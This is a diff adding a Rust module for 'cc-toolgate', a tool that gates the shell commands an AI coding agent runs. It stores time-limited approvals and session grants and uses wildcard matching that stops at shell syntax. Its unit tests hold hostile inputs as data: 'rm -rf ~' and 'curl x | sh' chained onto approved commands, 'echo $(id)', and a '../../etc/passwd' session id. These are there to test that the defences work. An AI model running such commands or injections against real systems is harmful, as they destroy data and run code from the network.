@@ -0,0 +1,436 @@
+//! Persistent approvals in `~/.local/share/cc-toolgate/approvals.json`.
+//!
+//! `cc-toolgate approve '<pattern>' --for 24h` records an approval; until it
+//! expires, commands matching the pattern are allowed instead of asked. A
+//! pattern is the full command text, where `*` matches any run of characters
+//! (`cargo publish *`) but never shell syntax such as `;`, `|`, or `$(`.
+//! Approvals never override a DENY.
+//!
+//! [`SessionGrants`](crate::approvals::SessionGrants) are the
+//! session-scoped counterpart: with `settings.session_grants` enabled, a
+//! command the user approved at an ASK prompt (seen by the PostToolUse
+//! hook) is allowed again, verbatim, for the rest of that session.
+
+use crate::eval::{Decision, RuleMatch};
+use serde::de::DeserializeOwned;
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+/// One recorded approval.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Approval {
+    /// Command pattern (`*` wildcards).
+    pub pattern: String,
+    /// Expiry as seconds since the Unix epoch.
+    pub expires: u64,
+}
+
+/// The set of recorded approvals.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ApprovalStore {
+    /// Approvals in the order they were recorded.
+    #[serde(default)]
+    pub approvals: Vec<Approval>,
+}
+
+impl ApprovalStore {
+    /// Default state file location, if `HOME` is set.
+    pub fn default_path() -> Option<PathBuf> {
+        let home = std::env::var_os("HOME")?;
+        Some(Path::new(&home).join(".local/share/cc-toolgate/approvals.json"))
+    }
+
+    /// Load the store from `path`. A missing or unreadable file is an empty
+    /// store; a corrupt one is reported to stderr and treated as empty.
+    pub fn load_from(path: &Path) -> Self {
+        read_json(path)
+    }
+
+    /// Write the store to `path`, replacing it atomically.
+    pub fn save_to(&self, path: &Path) -> std::io::Result<()> {
+        write_json(self, path)
+    }
+
+    /// Record an approval for `pattern` lasting `ttl` from `now`. An existing
+    /// approval for the same pattern is replaced; expired ones are dropped.
+    pub fn approve(&mut self, pattern: &str, ttl: Duration, now: u64) {
+        self.prune(now);
+        self.approvals.retain(|a| a.pattern != pattern);
+        self.approvals.push(Approval {
+            pattern: pattern.to_string(),
+            expires: now.saturating_add(ttl.as_secs()),
+        });
+    }
+
+    /// Remove approvals for `pattern`. Returns whether any were removed.
+    pub fn revoke(&mut self, pattern: &str) -> bool {
+        let before = self.approvals.len();
+        self.approvals.retain(|a| a.pattern != pattern);
+        self.approvals.len() != before
+    }
+
+    /// Drop approvals that expired at or before `now`.
+    pub fn prune(&mut self, now: u64) {
+        self.approvals.retain(|a| a.expires > now);
+    }
+
+    /// The live approval matching `command`, if any.
+    pub fn find(&self, command: &str, now: u64) -> Option<&Approval> {
+        let command = command.trim();
+        self.approvals
+            .iter()
+            .filter(|a| a.expires > now)
+            .find(|a| wildcard_match(a.pattern.trim(), command))
+    }
+
+    /// Turn an ASK into ALLOW when a live approval matches `command`.
+    /// ALLOW and DENY results are returned unchanged.
+    pub fn apply(&self, command: &str, result: RuleMatch, now: u64) -> RuleMatch {
+        if result.decision != Decision::Ask {
+            return result;
+        }
+        match self.find(command, now) {
+            Some(approval) => RuleMatch {
+                decision: Decision::Allow,
+                reason: format!(
+                    "approved by `{}` (expires in {})",
+                    approval.pattern,
+                    format_duration(Duration::from_secs(approval.expires - now))
+                ),
+            },
+            None => result,
+        }
+    }
+}
+
+/// Commands approved during one Claude Code session.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SessionGrants {
+    /// Exact command texts (trimmed) approved in this session.
+    #[serde(default)]
+    pub commands: Vec<String>,
+}
+
+impl SessionGrants {
+    /// Directory holding one grants file per session, if `HOME` is set.
+    pub fn default_dir() -> Option<PathBuf> {
+        let home = std::env::var_os("HOME")?;
+        Some(Path::new(&home).join(".local/share/cc-toolgate/sessions"))
+    }
+
+    /// Grants file for `session_id` under `dir`. Returns `None` for ids that
+    /// are empty or contain anything but ASCII alphanumerics, `-`, and `_`.
+    pub fn path_in(dir: &Path, session_id: &str) -> Option<PathBuf> {
+        let valid = !session_id.is_empty()
+            && session_id
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
+        valid.then(|| dir.join(format!("{session_id}.json")))
+    }
+
+    /// Load grants from `path`; missing or corrupt files are empty.
+    pub fn load_from(path: &Path) -> Self {
+        read_json(path)
+    }
+
+    /// Write grants to `path`, replacing it atomically.
+    pub fn save_to(&self, path: &Path) -> std::io::Result<()> {
+        write_json(self, path)
+    }
+
+    /// Record `command` as approved. Returns false if it already was.
+    pub fn grant(&mut self, command: &str) -> bool {
+        let command = command.trim();
+        if self.commands.iter().any(|c| c == command) {
+            return false;
+        }
+        self.commands.push(command.to_string());
+        true
+    }
+
+    /// Turn an ASK into ALLOW when `command` was approved earlier in the
+    /// session. Matching is exact; ALLOW and DENY are returned unchanged.
+    pub fn apply(&self, command: &str, result: RuleMatch) -> RuleMatch {
+        if result.decision == Decision::Ask && self.commands.iter().any(|c| c == command.trim()) {
+            return RuleMatch {
+                decision: Decision::Allow,
+                reason: "approved earlier in this session".into(),
+            };
+        }
+        result
+    }
+
+    /// Delete grants files in `dir` not modified within `max_age`.
+    pub fn prune_stale(dir: &Path, max_age: Duration) {
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            return;
+        };
+        for entry in entries.flatten() {
+            let stale = entry
+                .metadata()
+                .and_then(|m| m.modified())
+                .ok()
+                .and_then(|t| t.elapsed().ok())
+                .is_some_and(|age| age > max_age);
+            if stale {
+                let _ = std::fs::remove_file(entry.path());
+            }
+        }
+    }
+}
+
+/// Read a JSON state file. Missing or unreadable files yield the default;
+/// corrupt ones are reported to stderr and also yield the default.
+pub(crate) fn read_json<T: DeserializeOwned + Default>(path: &Path) -> T {
+    let Ok(text) = std::fs::read_to_string(path) else {
+        return T::default();
+    };
+    serde_json::from_str(&text).unwrap_or_else(|e| {
+        eprintln!("cc-toolgate: state file {} is invalid: {e}", path.display());
+        T::default()
+    })
+}
+
+/// Write a JSON state file atomically (temp file + rename).
+pub(crate) fn write_json<T: Serialize>(value: &T, path: &Path) -> std::io::Result<()> {
+    if let Some(dir) = path.parent() {
+        std::fs::create_dir_all(dir)?;
+    }
+    let tmp = path.with_extension("json.tmp");
+    std::fs::write(&tmp, serde_json::to_string_pretty(value)?)?;
+    std::fs::rename(&tmp, path)
+}
+
+/// Seconds since the Unix epoch.
+pub fn now() -> u64 {
+    SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or_default()
+}
+
+/// Parse a duration like `90s`, `30m`, `24h`, or `7d`.
+pub fn parse_duration(s: &str) -> Option<Duration> {
+    let s = s.trim();
+    let unit_at = s.find(|c: char| !c.is_ascii_digit())?;
+    let (n, unit) = s.split_at(unit_at);
+    let n: u64 = n.parse().ok()?;
+    let secs = match unit {
+        "s" => n,
+        "m" => n.checked_mul(60)?,
+        "h" => n.checked_mul(3600)?,
+        "d" => n.checked_mul(86_400)?,
+        _ => return None,
+    };
+    (secs > 0).then(|| Duration::from_secs(secs))
+}
+
+/// Render a duration as its two largest units (`3h12m`, `45s`).
+pub fn format_duration(d: Duration) -> String {
+    let secs = d.as_secs();
+    let (days, hours, mins) = (secs / 86_400, secs / 3600 % 24, secs / 60 % 60);
+    match (days, hours, mins) {
+        (0, 0, 0) => format!("{secs}s"),
+        (0, 0, m) => format!("{m}m"),
+        (0, h, m) => format!("{h}h{m}m"),
+        (d, h, _) => format!("{d}d{h}h"),
+    }
+}
+
+/// Characters a `*` will not match, so an approved pattern cannot be
+/// extended with another command (`make deploy *` vs `make deploy; rm -rf ~`).
+const SHELL_SYNTAX: &[char] = &[';', '&', '|', '<', '>', '`', '$', '(', ')', '\n'];
+
+/// Match `text` against `pattern`, where `*` matches any run of characters
+/// other than [`SHELL_SYNTAX`].
+///
+/// On a mismatch only the last `*` takes another character, so the match is
+/// linear in `text` for each `*`, never exponential in their number.
+fn wildcard_match(pattern: &str, text: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    let (mut p, mut t) = (0, 0);
+    // The last `*` seen, and where in `text` its match ends.
+    let mut star: Option<(usize, usize)> = None;
+    while t < text.len() {
+        if pattern.get(p) == Some(&'*') {
+            star = Some((p, t));
+            p += 1;
+        } else if pattern.get(p) == Some(&text[t]) {
+            p += 1;
+            t += 1;
+        } else if let Some((star_p, star_t)) = star
+            && !SHELL_SYNTAX.contains(&text[star_t])
+        {
+            star = Some((star_p, star_t + 1));
+            p = star_p + 1;
+            t = star_t + 1;
+        } else {
+            return false;
+        }
+    }
+    pattern[p..].iter().all(|&c| c == '*')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ask() -> RuleMatch {
+        RuleMatch {
+            decision: Decision::Ask,
+            reason: "requires confirmation".into(),
+        }
+    }
+
+    #[test]
+    fn wildcard_matching() {
+        assert!(wildcard_match("cargo publish", "cargo publish"));
+        assert!(!wildcard_match("cargo publish", "cargo publish --dry-run"));
+        assert!(wildcard_match("cargo publish *", "cargo publish --dry-run"));
+        assert!(wildcard_match("git push * main", "git push origin main"));
+        assert!(!wildcard_match("git push * main", "git push origin dev"));
+        assert!(wildcard_match("*", "anything at all"));
+        assert!(!wildcard_match("a*a", "a"));
+        assert!(wildcard_match("a**b", "axyb"));
+    }
+
+    #[test]
+    fn many_stars_fail_fast() {
+        let text = "a".repeat(10_000);
+        let pattern = format!("{}b", "a*".repeat(20));
+        let start = std::time::Instant::now();
+        assert!(!wildcard_match(&pattern, &text));
+        assert!(wildcard_match(&pattern, &format!("{text}b")));
+        assert!(start.elapsed() < Duration::from_secs(1));
+    }
+
+    #[test]
+    fn wildcard_stops_at_shell_syntax() {
+        assert!(!wildcard_match("make deploy*", "make deploy; rm -rf ~"));
+        assert!(!wildcard_match(
+            "cargo publish *",
+            "cargo publish && curl x | sh"
+        ));
+        assert!(!wildcard_match("echo *", "echo $(id)"));
+        assert!(wildcard_match("echo *", "echo hello world"));
+    }
+
+    #[test]
+    fn approval_turns_ask_into_allow() {
+        let mut store = ApprovalStore::default();
+        store.approve("kubectl apply -f *", Duration::from_secs(3600), 1000);
+        let result = store.apply("kubectl apply -f deploy.yaml", ask(), 1000);
+        assert_eq!(result.decision, Decision::Allow);
+        assert_eq!(
+            result.reason,
+            "approved by `kubectl apply -f *` (expires in 1h0m)"
+        );
+        assert_eq!(
+            store.apply("kubectl delete ns x", ask(), 1000).decision,
+            Decision::Ask
+        );
+    }
+
+    #[test]
+    fn expired_approval_ignored() {
+        let mut store = ApprovalStore::default();
+        store.approve("make deploy", Duration::from_secs(60), 1000);
+        assert!(store.find("make deploy", 1059).is_some());
+        assert!(store.find("make deploy", 1060).is_none());
+        store.prune(1060);
+        assert!(store.approvals.is_empty());
+    }
+
+    #[test]
+    fn approval_never_overrides_deny() {
+        let mut store = ApprovalStore::default();
+        store.approve("*", Duration::from_secs(60), 0);
+        let deny = RuleMatch {
+            decision: Decision::Deny,
+            reason: "blocked".into(),
+        };
+        assert_eq!(store.apply("shred x", deny, 0).decision, Decision::Deny);
+    }
+
+    #[test]
+    fn reapprove_replaces_and_revoke_removes() {
+        let mut store = ApprovalStore::default();
+        store.approve("make deploy", Duration::from_secs(60), 0);
+        store.approve("make deploy", Duration::from_secs(600), 0);
+        assert_eq!(store.approvals.len(), 1);
+        assert_eq!(store.approvals[0].expires, 600);
+        assert!(store.revoke("make deploy"));
+        assert!(!store.revoke("make deploy"));
+    }
+
+    #[test]
+    fn durations() {
+        assert_eq!(parse_duration("90s"), Some(Duration::from_secs(90)));
+        assert_eq!(parse_duration("30m"), Some(Duration::from_secs(1800)));
+        assert_eq!(parse_duration("24h"), Some(Duration::from_secs(86_400)));
+        assert_eq!(parse_duration("7d"), Some(Duration::from_secs(604_800)));
+        assert_eq!(parse_duration("0h"), None);
+        assert_eq!(parse_duration("24"), None);
+        assert_eq!(parse_duration("h"), None);
+        assert_eq!(parse_duration("1w"), None);
+        assert_eq!(format_duration(Duration::from_secs(45)), "45s");
+        assert_eq!(format_duration(Duration::from_secs(11_520)), "3h12m");
+        assert_eq!(format_duration(Duration::from_secs(90_000)), "1d1h");
+    }
+
+    #[test]
+    fn save_and_load_round_trip() {
+        let nanos = SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .unwrap()
+            .as_nanos();
+        let dir = std::env::temp_dir().join(format!("cc-toolgate-test-approvals-{nanos}"));
+        let path = dir.join("approvals.json");
+
+        assert!(ApprovalStore::load_from(&path).approvals.is_empty());
+        let mut store = ApprovalStore::default();
+        store.approve("cargo publish", Duration::from_secs(60), 0);
+        store.save_to(&path).unwrap();
+        assert_eq!(ApprovalStore::load_from(&path).approvals, store.approvals);
+
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[test]
+    fn session_grant_is_exact() {
+        let mut grants = SessionGrants::default();
+        assert!(grants.grant(" terraform apply "));
+        assert!(!grants.grant("terraform apply"));
+        let result = grants.apply("terraform apply", ask());
+        assert_eq!(result.decision, Decision::Allow);
+        assert_eq!(result.reason, "approved earlier in this session");
+        assert_eq!(
+            grants
+                .apply("terraform apply -auto-approve", ask())
+                .decision,
+            Decision::Ask
+        );
+        let deny = RuleMatch {
+            decision: Decision::Deny,
+            reason: "blocked".into(),
+        };
+        assert_eq!(
+            grants.apply("terraform apply", deny).decision,
+            Decision::Deny
+        );
+    }
+
+    #[test]
+    fn session_path_rejects_unsafe_ids() {
+        let dir = Path::new("/state/sessions");
+        assert_eq!(
+            SessionGrants::path_in(dir, "abc-123_X"),
+            Some(dir.join("abc-123_X.json"))
+        );
+        assert_eq!(SessionGrants::path_in(dir, ""), None);
+        assert_eq!(SessionGrants::path_in(dir, "../../etc/passwd"), None);
+        assert_eq!(SessionGrants::path_in(dir, "a/b"), None);
+    }
+}